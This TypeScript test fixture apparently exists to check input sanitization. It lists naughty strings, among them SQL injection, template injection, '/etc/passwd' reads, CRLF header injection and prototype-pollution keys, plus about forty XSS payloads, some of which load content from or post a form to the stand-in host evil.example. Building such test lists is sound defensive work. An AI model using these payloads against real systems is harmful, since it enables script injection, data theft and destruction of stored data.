import naughty from 'big-list-of-naughty-strings' with { type: 'json' };

const SPECIAL_CHARACTERS = '\u0300\u0316\u0489';

/** Our own, besides the well-known list: what databases, terminals and fonts stumble over. */
const own = [
  'a\u0000b',
  '\u0000',
  '\ud83d',
  'a\udc00b',
  `a${SPECIAL_CHARACTERS.repeat(60)}`,
  `a${'\u0301'.repeat(10_000)}`,
  '\u202Egpj.exe\u202C',
  '\u2066\u2067abc\u2069',
  '\u200f\u061c123',
  '\ufeffa\ufeff',
  '\u{e0041}\u{e007f}',
  '\u{10ffff}\uffff\ufffe',
  '👩🏾‍🍳🏳️‍🌈🇳🇬',
  'ﷺ﷽',
  '\r\nBcc: all@example.com\r\n',
  '\u2028\u2029\u0085',
  '\u001b[31mred\u0007',
  '%00%0d%0a',
  '{{7*7}}${7*7}<%= 7*7 %>#{7*7}',
  '#import "/etc/passwd": *; #read("/etc/passwd")',
  "'; drop table invoices; --",
  '__proto__',
  'constructor',
  'undefined',
  ' '.repeat(200),
  'x'.repeat(100_000),
];

export const NAUGHTY: string[] = [...own, ...(naughty as unknown as string[])];

/** Texts that would run as script where a page forgets to write them as text. */
export const SCRIPTS: string[] = [
  '<script>alert(1)</script>',
  '"><script>alert(2)</script>',
  "'><img src=x onerror=alert(3)>",
  '<img src=x onerror=alert(4)>',

  '<svg onload=alert(5)>',
  '<svg/onload=alert(6)//',
  '<body onload=alert(7)>',
  '<iframe src=javascript:alert(8)>',

  '<a href=javascript:alert(9)>x</a>',
  '<details open ontoggle=alert(10)>',
  '<video><source onerror=alert(11)>',
  '<input autofocus onfocus=alert(12)>',

  '</title><script>alert(13)</script>',
  '</textarea><script>alert(14)</script>',
  '</style><script>alert(15)</script>',
  '</script><script>alert(16)</script>',

  '--><script>alert(17)</script>',
  ']]><script>alert(18)</script>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(19)>',

  '<noscript><p title="</noscript><img src=x onerror=alert(20)>">',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',

  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<object data=//evil.example/x.swf>',
  '<embed src=//evil.example/x>',
  '<form action=//evil.example><button>x',

  'javascript:alert(27)',
  'data:text/html,<script>alert(28)</script>',
  '" onmouseover="alert(29)',
  "' autofocus onfocus='alert(30)",

  '`${alert(31)}`',
  '{{constructor.constructor("alert(32)")()}}',
  '<x contenteditable onblur=alert(33)>',
  '<marquee onstart=alert(34)>',

  '<isindex type=image src=1 onerror=alert(35)>',
  '\u003cscript\u003ealert(36)\u003c/script\u003e',
  '&lt;script&gt;alert(37)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(38)&#62;',

  '<style>@import "//evil.example/x.css"</style>',
  '![x](//evil.example/x.png) [y](javascript:alert(40))',
  '<div style="background:url(//evil.example/x)">',
];
